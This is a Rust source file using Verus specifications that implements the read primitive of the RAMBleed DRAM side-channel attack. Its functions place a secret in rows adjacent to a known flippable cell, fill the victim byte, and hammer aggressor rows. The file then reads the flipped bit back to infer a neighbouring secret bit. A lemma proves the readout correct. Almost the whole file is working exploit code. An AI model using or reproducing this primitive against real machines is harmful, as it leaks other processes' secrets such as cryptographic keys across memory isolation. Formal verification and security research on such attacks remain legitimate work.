//! The Rambleed read primitive: inferring a bit of a neighbouring row from a flip.
use vstd::prelude::*;
use crate::architecture::{is_sentinel_row, row_key, Architecture, DramAddr, PhysAddr};
use crate::config::Config;
use crate::hammer::{HammerCall, HammerPort, Hammerer};
use crate::memmap::{lookup, other_than, span_holds, DramRange, MemMap};
use crate::profile::{bit_is_set, spec_id_fill, Flip};

verus! {

/// Why a secret could not be placed.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Structural)]
pub enum PlacementError {
    /// The cell meant to hold the secret lies outside the buffer.
    NoSecretPlacement,
}

/// The first range of `rs` that holds byte `p`, if any.
pub open spec fn first_holding<A: Architecture>(arch: A, rs: Seq<DramRange>, p: int) -> Option<int> {
    if exists|n: int| 0 <= n < rs.len() && #[trigger] span_holds(arch, rs[n], p) {
        Some(
            choose|n: int|
                0 <= n < rs.len() && #[trigger] span_holds(arch, rs[n], p) && forall|m: int|
                    0 <= m < n ==> !#[trigger] span_holds(arch, rs[m], p),
        )
    } else {
        None
    }
}

/// Hands the cell `da` over to hold the secret: the first range of its row that holds
/// the cell leaves the index, so that no later pass reads or writes it. Placing the
/// secret's page there is up to the environment. Fails where the cell lies outside
/// `buf`.
pub fn place_secret<A: Architecture>(
    mem: &mut MemMap,
    buf: &[u8],
    da: &DramAddr,
    c: &Config<A>,
) -> (r: Result<(), PlacementError>)
    requires
        old(mem).wf(),
    ensures
        final(mem).wf(),
        final(mem).size() == old(mem).size(),
        final(mem).base_addr() == old(mem).base_addr(),
        r is Ok <==> c.arch.to_phys(*da) < buf@.len(),
        r is Err ==> final(mem).index() == old(mem).index(),
        r is Ok ==> lookup(final(mem).index(), row_key(*da)) == match first_holding(
            c.arch,
            lookup(old(mem).index(), row_key(*da)),
            c.arch.to_phys(*da) as int,
        ) {
            Some(n) => lookup(old(mem).index(), row_key(*da)).filter(
                other_than(lookup(old(mem).index(), row_key(*da))[n]),
            ),
            None => lookup(old(mem).index(), row_key(*da)),
        },
        forall|k: DramAddr|
            k != row_key(*da) ==> #[trigger] lookup(final(mem).index(), k) == lookup(
                old(mem).index(),
                k,
            ),
{
    let p = c.arch.dram_to_phys(da);
    if p >= buf.len() as u64 {
        return Err(PlacementError::NoSecretPlacement);
    }
    let ranges = mem.same_row_ranges(da);
    let ghost rs = ranges@;
    let mut n: usize = 0;
    while n < ranges.len()
        invariant
            rs == ranges@,
            rs == lookup(mem.index(), row_key(*da)),
            mem.wf(),
            mem.index() == old(mem).index(),
            mem.size() == old(mem).size(),
            mem.base_addr() == old(mem).base_addr(),
            p == c.arch.to_phys(*da),
            p < buf@.len(),
            n <= rs.len(),
            forall|m: int| 0 <= m < n ==> !#[trigger] span_holds(c.arch, rs[m], p as int),
        decreases rs.len() - n,
    {
        let start = c.arch.dram_to_phys(&ranges[n].start);
        if start <= p && p - start < ranges[n].bytes as u64 {
            assert(span_holds(c.arch, rs[n as int], p as int));
            assert(first_holding(c.arch, rs, p as int) == Some(n as int)) by {
                let m = choose|m: int|
                    0 <= m < rs.len() && #[trigger] span_holds(c.arch, rs[m], p as int) && forall|
                        m2: int,
                    | 0 <= m2 < m ==> !#[trigger] span_holds(c.arch, rs[m2], p as int);
                if m < n {
                } else if m > n {
                    assert(!span_holds(c.arch, rs[n as int], p as int));
                }
            }
            let r = ranges[n];
            mem.remove_range(&r);
            return Ok(());
        }
        n = n + 1;
    }
    assert(first_holding(c.arch, rs, p as int) is None);
    Ok(())
}

/// The start of the first range in the row of `da`, if the row has one.
pub fn same_row_addr(mem: &MemMap, da: DramAddr) -> (r: Option<DramAddr>)
    requires
        mem.wf(),
    ensures
        r == (if lookup(mem.index(), row_key(da)).len() > 0 {
            Some(lookup(mem.index(), row_key(da))[0].start)
        } else {
            None
        }),
{
    let ranges = mem.same_row_ranges(&da);
    if ranges.len() > 0 {
        Some(ranges[0].start)
    } else {
        None
    }
}

/// The bit of the flip's cell, if the cell lies in `buf`.
pub fn read_sidechannel<A: Architecture>(buf: &[u8], flip: &Flip, c: &Config<A>) -> (r: Option<bool>)
    ensures
        r == (if c.arch.to_phys(flip.pos) < buf@.len() && flip.pos.bit < 8 {
            Some(bit_is_set(buf@[c.arch.to_phys(flip.pos) as int], flip.pos.bit))
        } else {
            None
        }),
{
    let p = c.arch.dram_to_phys(&flip.pos);
    if p < buf.len() as u64 && flip.pos.bit < 8 {
        let flip_byte = buf[p as usize];
        Some((flip_byte >> flip.pos.bit) & 1 == 1)
    } else {
        None
    }
}

/// Fills the flip's byte with the cell's starting polarity; tells whether the byte
/// lies in `buf`.
pub fn fill_victim<A: Architecture>(buf: &mut [u8], flip: &Flip, c: &Config<A>) -> (r: bool)
    ensures
        r == (c.arch.to_phys(flip.pos) < old(buf)@.len()),
        final(buf)@ == (if r {
            old(buf)@.update(c.arch.to_phys(flip.pos) as int, spec_id_fill(flip.dir))
        } else {
            old(buf)@
        }),
{
    let p = c.arch.dram_to_phys(&flip.pos);
    if p < buf.len() as u64 {
        buf[p as usize] = crate::profile::id_fill(flip.dir);
        true
    } else {
        false
    }
}

/// The cells above and below a flip, once their secrets are placed, leave it able to be
/// read out: the flip has both neighbours, its three cells and one aggressor in each
/// neighbouring row lie in a buffer of `len` bytes, and its bit index names a bit of
/// its byte.
pub open spec fn exploit_ready<A: Architecture>(
    arch: A,
    rows: Seq<crate::memmap::RowRanges>,
    flip: Flip,
    len: nat,
) -> bool {
    let above = DramAddr { row: (flip.pos.row - 1) as u16, ..flip.pos };
    let below = DramAddr { row: (flip.pos.row + 1) as u16, ..flip.pos };
    &&& !is_sentinel_row(flip.pos.row)
    &&& arch.to_phys(above) < len
    &&& arch.to_phys(below) < len
    &&& lookup(rows, row_key(above)).len() > 0
    &&& lookup(rows, row_key(below)).len() > 0
    &&& arch.to_phys(lookup(rows, row_key(above))[0].start) < len
    &&& arch.to_phys(lookup(rows, row_key(below))[0].start) < len
    &&& arch.to_phys(flip.pos) < len
    &&& flip.pos.bit < 8
}

/// Reads one bit of the rows next to `flip`: places the secrets above and below it,
/// fills its cell with its starting polarity, hammers one cell of each neighbouring
/// row, and reads the cell back. The flip fires only where its neighbours disagree
/// with it, so the bit read is the inferred secret bit. Where it returns `None`
/// nothing is written or hammered.
pub fn bool_exploit_flip<A: Architecture, P: HammerPort>(
    mem: &mut MemMap,
    buf: &mut [u8],
    h: &mut Hammerer<P>,
    flip: &Flip,
    c: &Config<A>,
) -> (r: Option<bool>)
    requires
        old(mem).wf(),
    ensures
        final(mem).wf(),
        final(buf)@.len() == old(buf)@.len(),
        r is Some <==> exploit_ready(c.arch, final(mem).index(), *flip, old(buf)@.len()),
        r is None ==> final(buf)@ == old(buf)@ && final(h).calls() == old(h).calls(),
        r matches Some(b) ==> {
            let above = DramAddr { row: (flip.pos.row - 1) as u16, ..flip.pos };
            let below = DramAddr { row: (flip.pos.row + 1) as u16, ..flip.pos };
            let call = final(h).calls().last();
            &&& final(h).calls() == old(h).calls().push(call)
            &&& call.before == old(buf)@.update(
                c.arch.to_phys(flip.pos) as int,
                spec_id_fill(flip.dir),
            )
            &&& call.a1 == c.arch.to_phys(lookup(final(mem).index(), row_key(above))[0].start)
            &&& call.a2 == c.arch.to_phys(lookup(final(mem).index(), row_key(below))[0].start)
            &&& call.reads == c.reads_per_hammer
            &&& call.after == final(buf)@
            &&& b == bit_is_set(final(buf)@[c.arch.to_phys(flip.pos) as int], flip.pos.bit)
        },
{
    if flip.pos.row == 0 || flip.pos.row == 0xffff {
        return None;
    }
    let cell_above = flip.pos.row_above();
    let cell_below = flip.pos.row_below();
    if place_secret(mem, buf, &cell_above, c).is_err() {
        return None;
    }
    if place_secret(mem, buf, &cell_below, c).is_err() {
        return None;
    }
    let aggressor_above = match same_row_addr(mem, cell_above) {
        Some(a) => a,
        None => {
            return None;
        },
    };
    let aggressor_below = match same_row_addr(mem, cell_below) {
        Some(a) => a,
        None => {
            return None;
        },
    };
    let a1 = c.arch.dram_to_phys(&aggressor_above);
    let a2 = c.arch.dram_to_phys(&aggressor_below);
    if a1 >= buf.len() as u64 || a2 >= buf.len() as u64 || flip.pos.bit >= 8 {
        return None;
    }
    if !fill_victim(buf, flip, c) {
        return None;
    }
    h.hammer(buf, a1 as usize, a2 as usize, c.reads_per_hammer);
    read_sidechannel(buf, flip, c)
}

/// Read-out correctness: take the hammering that `bool_exploit_flip` records, with
/// the cell filled with its starting polarity beforehand. If that hammering flips the
/// cell's bit exactly when the neighbouring secret bit disagrees with it (a
/// striped-sensitive flip), the bit read back is the secret bit.
pub proof fn lemma_exploit_reads_neighbour<A: Architecture>(
    arch: A,
    flip: Flip,
    call: HammerCall,
    neighbour: bool,
    b: bool,
)
    requires
        flip.pos.bit < 8,
        arch.to_phys(flip.pos) < call.before.len(),
        call.before[arch.to_phys(flip.pos) as int] == spec_id_fill(flip.dir),
        ({
            let v = arch.to_phys(flip.pos) as int;
            let start = bit_is_set(call.before[v], flip.pos.bit);
            bit_is_set(call.after[v], flip.pos.bit) == (if neighbour != start {
                !start
            } else {
                start
            })
        }),
        b == bit_is_set(call.after[arch.to_phys(flip.pos) as int], flip.pos.bit),
    ensures
        b == neighbour,
{
}

/// Physical offset of the same cell one row up from `offset`; none in the first row.
pub fn offset_above<A: Architecture>(mem: &MemMap, offset: PhysAddr, c: &Config<A>) -> (r: Option<
    PhysAddr,
>)
    ensures
        r == (if c.arch.to_dram(offset).row == 0 {
            None
        } else {
            Some(
                c.arch.to_phys(
                    DramAddr { row: (c.arch.to_dram(offset).row - 1) as u16, ..c.arch.to_dram(offset) },
                ),
            )
        }),
{
    let mut dram_addr = mem.offset_to_dram(offset, c);
    if dram_addr.row == 0 {
        return None;
    }
    dram_addr.row = dram_addr.row - 1;
    Some(c.arch.dram_to_phys(&dram_addr))
}

/// Physical offset of the same cell one row down from `offset`; none in the last row.
pub fn offset_below<A: Architecture>(mem: &MemMap, offset: PhysAddr, c: &Config<A>) -> (r: Option<
    PhysAddr,
>)
    ensures
        r == (if c.arch.to_dram(offset).row == 0xffff {
            None
        } else {
            Some(
                c.arch.to_phys(
                    DramAddr { row: (c.arch.to_dram(offset).row + 1) as u16, ..c.arch.to_dram(offset) },
                ),
            )
        }),
{
    let mut dram_addr = mem.offset_to_dram(offset, c);
    if dram_addr.row == 0xffff {
        return None;
    }
    dram_addr.row = dram_addr.row + 1;
    Some(c.arch.dram_to_phys(&dram_addr))
}

/// `offset` rounded down to the start of its page.
pub fn align_page_offset(offset: PhysAddr, page_size: PhysAddr) -> (r: PhysAddr)
    requires
        page_size > 0,
    ensures
        r == offset - offset % page_size,
{
    assert(offset % page_size <= offset) by (nonlinear_arith)
        requires
            page_size > 0,
    ;
    offset - offset % page_size
}

} // verus!
